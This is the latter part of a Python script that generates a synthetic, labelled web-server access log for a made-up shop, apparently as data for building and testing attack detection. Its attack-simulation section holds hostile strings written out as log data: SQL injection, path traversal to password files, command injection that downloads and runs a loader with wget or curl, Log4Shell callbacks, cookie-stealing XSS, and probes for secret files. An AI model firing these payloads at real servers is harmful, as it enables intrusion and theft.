        made = 0
        while made < lines:
            t = rng.randrange(self.days * DAY)
            ip = addresses.pick(rng)
            agent = rng.choice(crawler.agents).replace("{chrome}", rng.choice(GOOGLEBOT_CHROME))
            burst = min(lines - made, 1 + int(rng.expovariate(1 / 12)))
            if rng.random() < 0.15:
                self.request(t, ip, "/robots.txt", agent, 200, 412)
                made += 1
            for _ in range(burst):
                target, status, size = self.target(crawler.style)
                self.request(t, ip, target, agent, status, size)
                t += rng.randint(0, 20)
            made += burst

    def request(self, t, ip, target, agent, status, size):
        self.timeline.add(t, ip, f"GET {target} HTTP/1.1", status, size, "-", agent)

    def target(self, style):
        """(target, status, size) for one crawled URL."""
        rng = self.rng
        site = self.site
        if style == "images":
            product = site.products[rng.randrange(len(site.products))]
            number = rng.randrange(len(product.image_sizes))
            return product.image(number + 1), 200 if rng.random() < 0.8 else 304, product.image_sizes[number]
        roll = rng.random()
        conditional = style == "search" and rng.random() < 0.18
        if roll < 0.46:
            product = site.products[rng.randrange(len(site.products))] if rng.random() < 0.7 else site.product(rng)
            return product.path, 304 if conditional else 200, 0 if conditional else product.page_size
        if roll < 0.66:
            category = site.category(rng)
            curious = 3.0 if style == "seo" else 1.5
            return site.category_target(rng, category, curious), 200, category.page_size
        if roll < 0.76:
            post = site.posts[rng.randrange(len(site.posts))]
            return post.path, 304 if conditional else 200, 0 if conditional else post.page_size
        if roll < 0.81:
            return f"/products/{rng.choice(site.discontinued)}", 410 if rng.random() < 0.3 else 404, 9_871
        if roll < 0.84:
            return rng.choice([f"/product.php?id={rng.randint(100, 4000)}", f"/shop/{site.product(rng).slug}.html",
                               f"/blog/{rng.randint(2015, 2018)}/{rng.randint(1, 12):02d}/"]), 301, 178
        if roll < 0.88:
            return site.info_pages.pick(rng), 200, 19_000
        if roll < 0.91:
            return rng.choice(["/sitemap.xml", "/sitemap-products-1.xml", "/sitemap-products-2.xml",
                               "/sitemap-products-3.xml", "/sitemap-categories.xml", "/sitemap-blog.xml"]), 200, 84_000
        if roll < 0.95:
            return f"/search?q={quote_plus(site.query(rng))}", 200, 31_000
        if roll < 0.97:
            return f"/blog/tag/{rng.choice(MATERIALS + ITEMS)}/", 200, 28_000
        if roll < 0.98:
            return rng.choice(["/ads.txt", "/.well-known/security.txt", "/humans.txt", "/app-ads.txt"]), 404, 555
        return "/", 200, 72_411


# --- Machines and background noise ---------------------------------------------------


SURVEYOR_AGENTS = [
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify "
    "customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP "
    "addresses/domains to: scaninfo@paloaltonetworks.com",
    "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; ModatScanner/1.0; +https://modat.io/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0",
    "-",
    "",
    "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
]
TLS_HELLO = "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"


class TrafficSource:
    """What the traffic that is not visitors' draws on: the site, its agents and addresses,
    the timeline to write to, and how big the log is (`scale`: 1.0 at a million lines)."""

    def __init__(self, rng, site, agents, addresses, timeline, days, scale):
        self.rng = rng
        self.site = site
        self.agents = agents
        self.addresses = addresses
        self.timeline = timeline
        self.days = days
        self.scale = scale
        self.end = days * DAY


class Machines(TrafficSource):
    """Monitors, feed readers, a partner's sync, link previews, scrapers, developers, internet scanners."""


    def add_all(self):
        self.uptime_monitors()
        self.feed_readers()
        self.partner_sync()
        self.link_previews()
        self.price_scrapers()
        self.developers()
        self.internet_scanners()
        self.hotlinked_images()

    def every(self, seconds):
        """Regular times over the whole log: one every `seconds` in a week of a million lines."""
        lines_per_week = self.scale * 7 * DAY / self.end
        step = max(1, int(seconds / max(lines_per_week, 0.01)))
        return range(self.rng.randrange(step), self.end, step)

    def uptime_monitors(self):
        rng = self.rng
        pingdom = [self.addresses.ipv4() for _ in range(4)]
        for t in self.every(60):
            self.timeline.add(t, pingdom[(t // 60) % 4], "GET /health HTTP/1.1", 200, 15, "-",
                              "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)")
        robot = [self.addresses.ipv4(network) for network in ("69.162.124.", "63.143.42.", "216.144.250.")]
        for t in self.every(300):
            self.timeline.add(t, rng.choice(robot), "HEAD / HTTP/1.1", 200, 0, "https://shop.example",
                              "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
        statuscake = self.addresses.ipv4()
        for t in self.every(900):
            self.timeline.add(t, statuscake, "GET /api/v1/health?deep=1 HTTP/1.1", 200, 212, "-",
                              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                              "Chrome/126.0.0.0 Safari/537.36 StatusCake")

    def feed_readers(self):
        rng = self.rng
        readers = [("Feedly/1.0 (+http://www.feedly.com/fetcher.html; {n} subscribers; )", 1800, 57),
                   ("Mozilla/5.0 (compatible; inoreader.com; {n} subscribers)", 3600, 12),
                   ("NewsBlur Feed Fetcher - {n} subscribers - https://www.newsblur.com/site/6231/shop-blog", 3600, 4),
                   ("Tiny Tiny RSS/24.09 (https://tt-rss.org/)", 1800, 0),
                   ("FreshRSS/1.24.3 (Linux; https://freshrss.org)", 2400, 0),
                   ("Slackbot 1.0 (+https://api.slack.com/robots)", 7200, 0)]
        for agent, interval, subscribers in readers:
            ip = self.addresses.ipv4()
            for t in self.every(interval):
                count = subscribers + (t * 3 // (7 * DAY)) if subscribers else 0
                changed = rng.random() < 0.04
                self.timeline.add(t, ip, "GET /blog/feed.xml HTTP/1.1", 200 if changed else 304,
                                  48_210 if changed else 0, "-", agent.replace("{n}", str(count)))

    def partner_sync(self):
        """A partner's warehouse polls stock changes; its token expires now and then."""
        rng = self.rng
        ip, agent = self.addresses.ipv4(), "StockSync/2.4.1 python-requests/2.32.3"
        for t in self.every(900):
            since = (START + dt.timedelta(seconds=t - 900)).astimezone(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
            if rng.random() < 0.02:
                self.timeline.add(t, ip, f"GET /api/v1/stock?updated_since={since} HTTP/1.1", 401, 61, "-", agent)
                self.timeline.add(t + 1, ip, "POST /api/v1/auth/token HTTP/1.1", 200, 734, "-", agent)
                t += 2
            for page in range(1, rng.randint(1, 4) + 1):
                self.timeline.add(t, ip, f"GET /api/v1/stock?updated_since={since}&page={page} HTTP/1.1", 200,
                                  rng.randint(300, 48_000), "-", agent)
                t += 1

    def link_previews(self):
        """A product shared in a chat or a post: the preview fetcher reads the page and its image."""
        rng = self.rng
        fetchers = [("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "69.171.249.", 4),
                    ("Twitterbot/1.0", "199.16.157.", 2),
                    ("WhatsApp/2.23.20.0", None, 5),
                    ("WhatsApp/2.2407.3 W", None, 1),
                    ("TelegramBot (like TwitterBot)", "149.154.161.", 1),
                    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", None, 1),
                    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", None, 1),
                    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) "
                     "Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", None, 1)]
        # Operators fetch from a few addresses of their own; chat apps fetch from the sender's phone.
        pools = {net: [self.addresses.ipv4(net) for _ in range(12)] for _, net, _ in fetchers if net}
        phones = zipf([self.addresses.visitor(0.3) for _ in range(max(5, int(150 * self.scale)))])
        picker = weighted([(fetcher, weight) for *fetcher, weight in fetchers])
        for _ in range(int(2_500 * self.scale)):
            agent, net = picker.pick(rng)
            ip = rng.choice(pools[net]) if net else phones.pick(rng)
            t = rng.randrange(self.end)
            product = self.site.product(rng)
            method = "HEAD" if rng.random() < 0.15 else "GET"
            size = 0 if method == "HEAD" else product.page_size
            self.timeline.add(t, ip, f"{method} {product.path} HTTP/1.1", 200, size, "-", agent)
            self.timeline.add(t + 1, ip, f"GET {product.image(1)} HTTP/1.1", 200, product.image_sizes[0], "-", agent)

    def price_scrapers(self):
        """Competitors reading prices with scripts, slowly, mostly at night: unwelcome but no attack."""
        rng = self.rng
        for _ in range(3):
            ip, agent = self.addresses.ipv4(), rng.choice([self.agents.tool(), self.agents.chrome_windows()])
            day_start = rng.randrange(self.days) * DAY + rng.randint(1, 4) * HOUR
            t = day_start
            for product in rng.sample(self.site.products, min(len(self.site.products), int(1_500 * self.scale))):
                self.timeline.add(t, ip, f"GET {product.path} HTTP/1.1", 200, product.page_size, "-", agent)
                t += rng.randint(2, 9)

    def developers(self):
        """People poking the API and the pages by hand, HEAD requests and all."""
        rng = self.rng
        for _ in range(int(120 * self.scale) + 1):
            ip, agent = self.addresses.visitor(0.3), self.agents.tool()
            t = rng.randrange(self.end)
            for _ in range(rng.randint(1, 12)):
                method = "HEAD" if rng.random() < 0.25 else "GET"
                target = rng.choice(["/", "/api/v1/health", f"/api/v1/items/{self.site.product(rng).item_id}",
                                     self.site.product(rng).path, "/sitemap.xml", "/robots.txt",
                                     f"/api/v1/items?category={self.site.category(rng).slug}&page=1&per_page=50"])
                status = 200 if rng.random() < 0.93 else rng.choice([401, 403, 404, 429])
                self.timeline.add(t, ip, f"{method} {target} HTTP/1.1", status,
                                  0 if method == "HEAD" else rng.randint(150, 60_000), "-", agent)
                t += rng.randint(1, 90)

    def internet_scanners(self):
        """Internet-wide surveys: a request for /, a TLS handshake on the plain port, an empty request."""
        rng = self.rng
        addresses = zipf([self.addresses.ipv4() for _ in range(max(5, int(350 * self.scale)))], 0.7)
        for _ in range(int(900 * self.scale) + 1):
            ip, t = addresses.pick(rng), rng.randrange(self.end)
            roll = rng.random()
            if roll < 0.55:
                request = rng.choice(["GET / HTTP/1.1", "GET / HTTP/1.0", "HEAD / HTTP/1.1"])
                status, size = 200, 0 if request.startswith("HEAD") else 72_411
            elif roll < 0.7:
                request, status, size = rng.choice(["GET /favicon.ico HTTP/1.1", "GET /robots.txt HTTP/1.1",
                                                    "GET /sitemap.xml HTTP/1.1"]), 200, 1_200
            elif roll < 0.85:
                # The start of a TLS handshake, escaped as Apache and nginx log it
                request, status, size = TLS_HELLO + hex_id(rng, 6), 400, 157
            elif roll < 0.93:
                request, status, size = "-", 408, 0
            else:
                request = rng.choice(["OPTIONS / HTTP/1.1", "PRI * HTTP/2.0", "GET /.well-known/security.txt HTTP/1.1",
                                      f"MGLNDD_{ip}_80"])
                status, size = 400, 157
            self.timeline.add(t, ip, request, status, size, "-", rng.choice(SURVEYOR_AGENTS))

    def hotlinked_images(self):
        """Product photos embedded in forums and marketplaces, fetched by their readers."""
        rng = self.rng
        forums = [f"https://www.{rng.choice(WORDS)}{rng.choice(WORDS)}.{rng.choice(TLDS)}"
                  f"/threads/{rng.randint(1000, 99999)}/" for _ in range(60)]
        readers = zipf([(self.addresses.visitor(), self.agents.browser())
                        for _ in range(max(5, int(250 * self.scale)))])
        for _ in range(int(3_000 * self.scale)):
            product = self.site.product(rng)
            ip, agent = readers.pick(rng)
            cached = rng.random() < 0.3
            self.timeline.add(rng.randrange(self.end), ip, f"GET {product.image(1)} HTTP/2.0", 304 if cached else 200,
                              0 if cached else product.image_sizes[0], rng.choice(forums), agent)


# --- Attacks ------------------------------------------------------------------------

SCANNER_PATHS = [
    "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/xmlrpc.php",
    "/wp-content/plugins/wp-file-manager/readme.txt", "/wp-includes/wlwmanifest.xml", "/blog/wp-login.php",
    "/wordpress/wp-admin/", "/.env", "/.env.local", "/.env.production", "/api/.env", "/backend/.env",
    "/.git/config", "/.git/HEAD", "/.svn/entries", "/.hg/store", "/.DS_Store", "/phpmyadmin/",
    "/phpMyAdmin/index.php", "/pma/", "/myadmin/", "/mysql/admin/", "/admin/", "/admin/login.php",
    "/administrator/index.php", "/user/login", "/backup.zip", "/backup.tar.gz", "/site.sql", "/db.sql", "/dump.sql",
    "/config.php.bak", "/config.json", "/config.yml", "/.aws/credentials", "/.ssh/id_rsa", "/server-status",
    "/server-info", "/phpinfo.php", "/info.php", "/test.php", "/shell.php", "/cmd.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/test-cgi", "/actuator/env", "/actuator/health",
    "/solr/admin/info/system", "/console/", "/manager/html", "/jenkins/login", "/owa/auth/logon.aspx",
    "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "/HNAP1/",
    "/boaform/admin/formLogin", "/GponForm/diag_Form?images/", "/telescope/requests", "/_ignition/health-check",
    "/.well-known/acme-challenge/../../.env", "/debug/default/view", "/laravel/.env", "/storage/logs/laravel.log",
    "/autodiscover/autodiscover.json", "/sftp-config.json", "/.vscode/sftp.json", "/docker-compose.yml",
    "/Dockerfile", "/web.config", "/elmah.axd", "/trace.axd", "/crossdomain.xml", "/login.action",
    "/struts2-showcase/", "/druid/index.html", "/nacos/", "/geoserver/web/", "/remote/login",
    "/dana-na/auth/url_default/welcome.cgi", "/global-protect/login.esp", "/api/v1/pods", "/v2/_catalog",
    "/.git/logs/HEAD", "/old/", "/new/", "/test/", "/dev/", "/staging/", "/demo/",
]
SCANNER_AGENTS = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000512)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "python-requests/2.27.1",
    "Go-http-client/1.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
    "gobuster/3.6",
    "Mozilla/5.0 (l9scan/2.0.1343e2434313e20313e2631323; +https://leakix.net)",
]
SECRET_PATHS = ["/.env", "/.git/config", "/.aws/credentials", "/config.json", "/.env.production", "/wp-config.php.bak",
                "/phpinfo.php", "/.env.bak", "/app/.env", "/.git/HEAD", "/backup.sql", "/secrets.yml", "/.npmrc",
                "/.docker/config.json", "/admin/.env", "/credentials.json"]


SQLMAP_PAYLOADS = [
    "1'", "1\"", "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1", "1' AND SLEEP(5)-- -",
    "1) AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -", "1 UNION ALL SELECT NULL,NULL,NULL-- -",
    "1' UNION ALL SELECT NULL,CONCAT(0x7178,0x4b6a,0x7170),NULL-- -", "1;SELECT PG_SLEEP(5)--", "1' ORDER BY {n}-- -",
    "-{n} OR {n}={n}", "1 AND EXTRACTVALUE({n},CONCAT(0x5c,0x71))", "1' WAITFOR DELAY '0:0:5'--",
    "(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0 END))",
]


class Attacks(TrafficSource):
    """Labelled attack traffic, each campaign from its own address, at realistic scale."""


    def campaigns(self, per_million):
        """How many campaigns of a kind: more in a bigger log, at least one."""
        return max(1, round(per_million * self.scale))

    def length(self, at_a_million, shortest):
        """How many requests a campaign makes: as at a million lines, shorter in a small log."""
        return max(shortest, round(at_a_million * min(1.0, self.scale)))

    def when(self):
        """A start time away from the edges of the log."""
        return self.rng.randrange(2 * HOUR, self.end - 4 * HOUR)

    def add(self, t, ip, method, target, status, size, agent, label, referer="-", protocol="HTTP/1.1"):
        self.timeline.add(t, ip, escape_quotes(f"{method} {target} {protocol}"), status, size,
                          escape_quotes(referer), escape_quotes(agent), label)

    def add_all(self):
        for _ in range(self.campaigns(7)):
            self.scanner_sweep()
        self.slow_sweep()
        for _ in range(self.campaigns(16)):
            self.secret_probe()
        self.sqlmap()
        for _ in range(self.campaigns(3)):
            self.manual_sql_injection()
        for _ in range(self.campaigns(2)):
            self.path_traversal()
        for _ in range(self.campaigns(4)):
            self.command_injection()
        for _ in range(self.campaigns(3)):
            self.log4shell()
        for _ in range(self.campaigns(2)):
            self.xss()
        self.password_guessing()
        self.wordpress_guessing()
        self.flood()

    def scanner_sweep(self):
        """A quick sweep for well-known files and admin pages: mostly 404s from one address."""
        rng = self.rng
        ip, agent, t = self.addresses.ipv4(), rng.choice(SCANNER_AGENTS), self.when()
        paths = rng.sample(SCANNER_PATHS, self.length(rng.randint(40, len(SCANNER_PATHS)), 8))
        if rng.random() < 0.5:  # some try each path in a few directories
            paths += [prefix + path for prefix in ("/shop", "/backup", "/api") for path in paths[:self.length(20, 2)]]
        for path in paths:
            status = 404
            if path.startswith("/server-"):
                status = 403
            elif path in ("/admin/", "/blog/wp-login.php"):
                status = 301
            self.add(t, ip, "GET", path, status, 555 if status == 404 else 162, agent, "scanning")
            t += rng.randint(0, 2)

    def slow_sweep(self):
        """A directory guesser at one request every few minutes, dressed as a browser."""
        rng = self.rng
        ip, agent, t = self.addresses.ipv4(), self.agents.chrome_windows(), self.when()
        words = WORDS + ["admin", "old", "backup", "private", "tmp", "internal", "api2", "v0", "beta"]
        for word in rng.sample(words, self.length(40, 10)):
            self.add(t, ip, "GET", f"/{word}/", 404, 9_871, agent, "scanning", protocol="HTTP/2.0")
            t += rng.randint(120, 600)

    def secret_probe(self):
        rng = self.rng
        ip, t = self.addresses.visitor(0.1), self.when()
        agent = rng.choice(["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", self.agents.chrome_windows(),
                            OLD_AND_RARE_BROWSERS[0]])
        for path in rng.sample(SECRET_PATHS, rng.randint(2, 7)):
            self.add(t, ip, "GET", path, 404, 555, agent, "sensitive_file_probe")
            t += rng.randint(0, 12)

    def sqlmap(self):
        rng = self.rng
        ip, agent, t = self.addresses.ipv4(), "sqlmap/1.8.11#stable (https://sqlmap.org)", self.when()
        product = self.site.product(rng)
        bases = [f"/api/v1/items/{product.item_id}/reviews?page=", f"/search?q={quote_plus(self.site.query(rng))}",
                 f"{self.site.categories[3].path}?sort=price-asc&page="]
        for _ in range(self.length(160, 15)):
            payload = rng.choice(SQLMAP_PAYLOADS).replace("{n}", str(rng.randint(1000, 9999)))
            target = rng.choice(bases) + quote(payload, safe="")
            status = rng.choice([200, 200, 200, 500, 400])
            self.add(t, ip, "GET", target, status, rng.randint(300, 40_000), agent, "sql_injection")
            t += rng.randint(0, 3)

    def manual_sql_injection(self):
        rng = self.rng
        ip, agent, t = self.addresses.ipv4(), self.agents.browser(), self.when()
        product = self.site.product(rng)
        for payload in rng.sample(["' or '1'='1", "x' union select email,password from customers-- ",
                                   "1' and (select count(*) from users)>0-- ", "admin'--", "1; drop table orders--",
                                   "' OR 1=1 LIMIT 1 -- -"], 3):
            target = rng.choice([f"/search?q={quote_plus(payload)}", f"{product.path}?ref={quote(payload, safe='')}",
                                 f"/api/v1/items/{product.item_id}/reviews?page={quote(payload, safe='')}"])
            self.add(t, ip, "GET", target, rng.choice([200, 500]), rng.randint(900, 30_000), agent, "sql_injection",
                     referer=SITE + product.path, protocol="HTTP/2.0")
            t += rng.randint(20, 200)

    def path_traversal(self):
        rng = self.rng
        ip, agent, t = self.addresses.ipv4(), rng.choice(["curl/7.88.1", self.agents.chrome_linux()]), self.when()
        attempts = ["/media/..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/../../../../etc/passwd",
                    "/download?file=../../../../etc/passwd", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fshadow",
                    "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/media/....//....//....//etc/passwd",
                    "/api/v1/export?path=..%5c..%5c..%5cwindows%5cwin.ini",
                    "/static/..%252f..%252f..%252fetc%252fpasswd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
                    "/assets/file?name=../../../proc/self/environ", "/images/..;/..;/..;/etc/passwd",
                    "/?page=php://filter/convert.base64-encode/resource=../config.php"]
        for path in rng.sample(attempts, rng.randint(6, len(attempts))):
            self.add(t, ip, "GET", path, rng.choice([400, 404, 404]), rng.randint(150, 600), agent, "path_traversal")
            t += rng.randint(1, 25)

    def command_injection(self):
        rng = self.rng
        ip, t = self.addresses.ipv4(), self.when()
        loader = f"http://{self.addresses.ipv4()}/{rng.choice(['bins.sh', 'x86', 'mozi.m', 'jaws', 'ohshit.sh'])}"
        encoded = quote(loader, safe="")
        attempts = [
            ("GET", f"/shell?cd+/tmp;rm+-rf+*;wget+{loader};sh+/tmp/jaws", "Hello, world"),
            ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+rm+-rf+r"
                    f"%3B+wget+{encoded}%3B+chmod+777+r%3B+.%2Fr%60)", "Go-http-client/1.1"),
            ("GET", f"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+{loader}+-O+/tmp/netgear;"
                    "sh+netgear&curpath=/&currentsetting.htm=1", "Mozilla/5.0"),
            ("POST", "/boaform/admin/formPing", "polaris botnet"),
            ("GET", "/tools/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "curl/8.5.0"),
            ("GET", f"/tools/ping?host=%24(curl%20{encoded}%7Csh)", "curl/8.5.0"),
            ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                    "&vars[0]=system&vars[1][]=id", OLD_AND_RARE_BROWSERS[0]),
            ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "Mozilla/5.0"),
        ]
        for method, target, agent in rng.sample(attempts, rng.randint(2, 5)):
            self.add(t, ip, method, target, rng.choice([400, 404]), rng.randint(150, 600), agent, "command_injection")
            t += rng.randint(0, 30)

    def log4shell(self):
        rng = self.rng
        ip, t = self.addresses.ipv4(), self.when()
        callback = f"{self.addresses.ipv4()}:{rng.choice([1389, 1099, 389, 53])}/{token(rng, 8)}"
        payloads = ["${jndi:ldap://" + callback + "}",
                    "${${lower:j}ndi:${lower:r}mi://" + callback + "}",
                    "${${::-j}${::-n}${::-d}${::-i}:ldap://" + callback + "/Basic/Command/Base64/"
                    + token(rng, 24) + "}",
                    "${jndi:dns://" + callback + "}"]
        for _ in range(rng.randint(3, 8)):
            payload = rng.choice(payloads)
            where = rng.random()
            if where < 0.5:
                self.add(t, ip, "GET", "/", 200, 72_411, payload, "log4shell")
            elif where < 0.8:
                self.add(t, ip, "GET", "/?x=" + quote(payload, safe=""), 200, 72_411, "Mozilla/5.0", "log4shell")
            else:
                self.add(t, ip, "GET", "/login", 200, 11_300, payload, "log4shell", referer=payload)
            t += rng.randint(0, 10)

    def xss(self):
        rng = self.rng
        ip, agent, t = self.addresses.ipv4(), self.agents.browser(), self.when()
        payloads = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
                    "\"><svg/onload=alert(1)>", "javascript:alert(1)", "'-alert(1)-'",
                    "<iframe src=javascript:alert(`xss`)>",
                    "<details open ontoggle=confirm(1)>", "{{constructor.constructor('alert(1)')()}}"]
        for _ in range(rng.randint(8, 20)):
            payload = rng.choice(payloads)
            target = rng.choice([f"/search?q={quote_plus(payload)}", f"/login?next={quote(payload, safe='')}",
                                 f"/search?q={quote_plus(payload)}&page=2"])
            self.add(t, ip, "GET", target, 200, rng.randint(14_000, 40_000), agent, "xss", referer=SITE + "/search",
                     protocol="HTTP/2.0")
            t += rng.randint(5, 60)

    def password_guessing(self):
        """A burst of logins answered 401, from a script, ending without success."""
        rng = self.rng
        ip, t = self.addresses.ipv4(), self.when()
        agent = rng.choice(["python-requests/2.31.0", self.agents.chrome_windows()])
        for _ in range(self.length(260, 25)):
            self.add(t, ip, "POST", "/login", 401, 11_420, agent, "brute_force", referer=SITE + "/login")
            t += rng.randint(1, 8)

    def wordpress_guessing(self):
        """A WordPress password list run against a shop that has no WordPress."""
        rng = self.rng
        ip, t = self.addresses.ipv4(), self.when()
        agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"
        for _ in range(self.length(70, 10)):
            path = "/wp-login.php" if rng.random() < 0.7 else "/xmlrpc.php"
            self.add(t, ip, "POST", path, 404, 555, agent, "brute_force")
            t += rng.randint(2, 30)

    def flood(self):
        """Over a thousand searches in a few minutes from one address; the rate limit answers 429."""
        rng = self.rng
        ip, agent, t0 = self.addresses.ipv4(), "Go-http-client/1.1", self.when()
        count = self.length(1_200, 100)
        for number in range(count):
            t = t0 + number * 240 // count
            status, size = (200, rng.randint(20_000, 60_000)) if number < count // 4 else (429, 162)
            target = f"/search?q={quote_plus(self.site.query(rng))}"
            self.add(t, ip, "GET", target, status, size, agent, "request_flood")


# --- Putting it together ------------------------------------------------------------


def hour_weights(days):
    """Each hour's share of the visitors, over the whole log."""
    weights = []
    for day in range(days):
        weekday = (START + dt.timedelta(days=day)).weekday()
        hours = WEEKEND_HOURS if weekday >= 5 else WEEKDAY_HOURS
        weights += [DAY_WEIGHTS[weekday] * share for share in hours]
    total = sum(weights)
    return [weight / total for weight in weights]


LINES_PER_VISIT = 22  # measured; only sizes the list of visit owners


def generate(lines, seed, days, out, labels):
    rng = Random(seed)
    scale = lines / 1_000_000
    end = days * DAY
    timeline = Timeline(end)
    addresses = AddressBook(rng)
    agents = AgentFactory(rng)
    site = Site(rng)
    referrers = Referrers(rng, site)

    # Everything but the visitors, for the whole log: a few hundred thousand records at most.
    Crawlers(rng, site, addresses, timeline, days).add_all(lines)
    Machines(rng, site, agents, addresses, timeline, days, scale).add_all()
    Attacks(rng, site, agents, addresses, timeline, days, scale).add_all()
    background = timeline.added

    # Visitors fill the rest, hour by hour, a little more than needed: the writer stops at `lines`.
    visitor_lines = (lines - background) * 1.001 + 200
    visitors = Visitors(rng, site, agents, addresses, referrers, timeline, scale,
                        expected_visits=int(visitor_lines / LINES_PER_VISIT))
    writer = LogWriter(out, labels, lines)
    target = 0.0
    for hour, share in enumerate(hour_weights(days)):
        target += visitor_lines * share
        while timeline.added - background < target:
            visitors.visit(hour * HOUR + rng.randrange(HOUR))
        writer.write(timeline.take_hour(hour))
        if writer.full:
            break
    return writer.written


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--lines", type=int, default=1_000_000, help="lines to write (default 1,000,000)")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--days", type=int, default=7, help="days of traffic from 2026-03-02 (default 7)")
    parser.add_argument("--out", required=True, help="the log file to write")
    parser.add_argument("--labels", help="write line,client,kind for every attack line to this CSV")
    args = parser.parse_args()
    with open(args.out, "w", encoding="utf-8", newline="\n") as out:
        labels = open(args.labels, "w", encoding="utf-8", newline="\n") if args.labels else None
        try:
            written = generate(args.lines, args.seed, args.days, out, labels)
        finally:
            if labels:
                labels.close()
    if written < args.lines:
        print(f"wrote {written:,} lines, fewer than the {args.lines:,} asked for", file=sys.stderr)


if __name__ == "__main__":
    main()
